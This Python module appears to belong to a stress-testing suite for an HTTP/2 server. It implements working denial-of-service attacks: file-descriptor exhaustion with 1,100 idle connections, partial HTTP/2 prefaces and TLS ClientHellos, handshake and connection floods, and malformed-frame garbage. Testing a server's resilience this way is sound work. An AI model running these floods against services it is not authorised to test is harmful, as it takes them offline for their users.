"""Connections of which nothing, or not enough, comes."""

from __future__ import annotations

import select
import socket
import ssl
import time

from http2 import PREFACE, Kind, frame
from target import Tally, Target, attack, trusting

MANY = 1100  # more than the server may have open files


class Crowd:
    """Connections that are kept, and opened again where the server ends them."""

    def __init__(self, target: Target, size: int, first: bytes = b"") -> None:
        self._target, self._size, self._first = target, size, first
        self._held: dict[int, socket.socket] = {}
        self._poll = select.poll()
        self.tally: Tally = Tally()

    def keep(self) -> Tally:
        """Until the time is up."""
        while self._target.goes_on():
            if len(self._held) < self._size:
                self._open()
            else:
                time.sleep(0.01)
            self._drop_ended()
        self.tally["held at the end"] = len(self._held)
        for each in self._held.values():
            each.close()
        return self.tally

    def _open(self) -> None:
        try:
            one = self._target.dial()
            one.sendall(self._first)
        except OSError:
            self.tally["refused"] += 1
            return
        one.setblocking(False)
        self.tally["connections"] += 1
        self._held[one.fileno()] = one
        self._poll.register(one, select.POLLIN)

    def _drop_ended(self) -> None:
        for descriptor, _ in self._poll.poll(0):
            try:
                if self._held[descriptor].recv(1 << 16):
                    continue
            except OSError:
                pass
            self._poll.unregister(descriptor)
            self._held.pop(descriptor).close()
            self.tally["ended"] += 1


@attack("connections", setups=("open", "tokens", "tls"))
def silent_connections(target: Target) -> Tally:
    """1,100 TCP connections, from 16 hosts, that say nothing"""
    return Crowd(target, MANY).keep()


@attack("connections")
def preface_only(target: Target) -> Tally:
    """1,100 connections that say HTTP/2 and no more"""
    return Crowd(target, MANY, PREFACE + frame(Kind.SETTINGS)).keep()


@attack("connections", setups=("open", "tokens", "tls"))
def half_a_preface(target: Target) -> Tally:
    """1,100 connections that stop amid the first words, of TLS where there is TLS"""
    first = client_hello()[:100] if target.setup == "tls" else PREFACE[:10]
    return Crowd(target, MANY, first).keep()


@attack("connections", setups=("tls",))
def half_handshakes(target: Target) -> Tally:
    """1,100 TLS handshakes that stop after the ClientHello"""
    return Crowd(target, MANY, client_hello()).keep()


@attack("rounds", setups=("tls",))
def handshake_flood(target: Target) -> Tally:
    """One TLS handshake after the other, and no call"""
    tally: Tally = Tally()
    context = trusting()
    while target.goes_on():
        tally["rounds"] += 1
        try:
            with target.dial() as raw, context.wrap_socket(raw):
                tally["handshakes"] += 1
        except OSError:
            tally["refused"] += 1
    return tally


@attack("connections")
def connection_flood(target: Target) -> Tally:
    """Connections that are opened and closed at once, in a loop"""
    tally: Tally = Tally()
    while target.goes_on():
        try:
            target.dial().close()
            tally["connections"] += 1
        except OSError:
            tally["refused"] += 1
    return tally


@attack("connections", setups=("open", "tokens", "tls"))
def garbage(target: Target) -> Tally:
    """Connections that say things that are no HTTP/2"""
    tally: Tally = Tally()
    words = [b"GET / HTTP/1.1\r\nHost: fovea\r\n\r\n", b"\x16\x03\x01" + b"\xff" * 200, bytes(9999)]
    words.append(PREFACE + b"\xff" * 5000)  # a frame that is too large, of no known kind
    while target.goes_on():
        try:
            with target.dial() as raw:
                raw.sendall(words[tally["connections"] % len(words)])
                raw.settimeout(0.05)
                tally["connections"] += 1
                while raw.recv(4096):
                    pass
        except OSError:
            tally["refused"] += 1
    return tally


def client_hello() -> bytes:
    outgoing = ssl.MemoryBIO()
    try:
        trusting().wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
